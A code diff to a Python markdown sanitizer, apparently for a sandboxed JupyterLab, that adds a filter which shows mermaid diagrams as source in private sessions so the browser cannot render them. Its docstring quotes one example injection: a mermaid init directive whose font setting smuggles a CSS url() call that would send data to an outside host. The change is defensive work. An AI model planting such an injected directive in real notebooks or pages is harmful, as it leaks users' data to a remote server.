@@ -537,6 +537,36 @@ def _private_images(s: str, notes: Notes) -> str:
             pos = i + 2
 
 
+#: A fence opener after any blockquote or list markers, and its info string.
+#: Matched on every line, not only where :func:`segments` sees a block: a fence
+#: inside a quote or a list item is drawn too.
+_FENCE_INFO = re.compile(r"(?m)^([ \t>*+\-.)0-9]*(?:`{3,}|~{3,}))([^\n]*)$")
+_ESCAPED_PUNCTUATION = re.compile(r"\\([!-/:-@\[-`{-~])")
+
+
+def _private_diagrams(s: str, notes: Notes) -> str:
+    """In private sessions a mermaid diagram is shown as its source.
+
+    Mermaid draws a diagram inside the page before JupyterLab turns it into an
+    image, and its configuration, styles and shapes can name addresses the
+    browser then loads (``%%{init: {"fontFamily": "x;background:url(//host/?d=...)"}}%%``,
+    an image shape, an icon): in a Lab without sandbox_kernel's page policy each
+    of those reached a server of the cell's choosing. Its language keeps
+    growing, so no list of the constructs that fetch would stay complete: the
+    fence keeps its text under another info string (any that reads as
+    ``mermaid…``), so nothing is drawn."""
+
+    def neutral(m: re.Match[str]) -> str:
+        # the info string as a markdown parser may read it: escapes and references decoded
+        info = html.unescape(_ESCAPED_PUNCTUATION.sub(r"\1", m.group(2))).strip().lower()
+        if not info.startswith("mermaid"):
+            return m.group(0)
+        notes.add(f"mermaid diagram shown as its source in {WHERE} ({PRIVATE_REASON})")
+        return m.group(1) + "mermaid-source"
+
+    return _FENCE_INFO.sub(neutral, s) if "mermaid" in s.lower() or "&" in s else s
+
+
 # ----------------------------------------------------------------------------- entry point
 
 _ASCII_REF = re.compile(r"&(?:#[0-9]{1,8}|#[xX][0-9a-fA-F]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});?")
@@ -569,5 +599,6 @@ def clean_markdown(text: str, *, private: bool, notes: Notes) -> str:
     out = _fix_links("".join(parts), notes, private=private)
     if private:
         out = _private_images(out, notes)
+        out = _private_diagrams(out, notes)
         out = defang_markdown(out)  # bare URLs and autolinks GFM would link
     return clean_tex(out, private=private, notes=notes, where=WHERE)
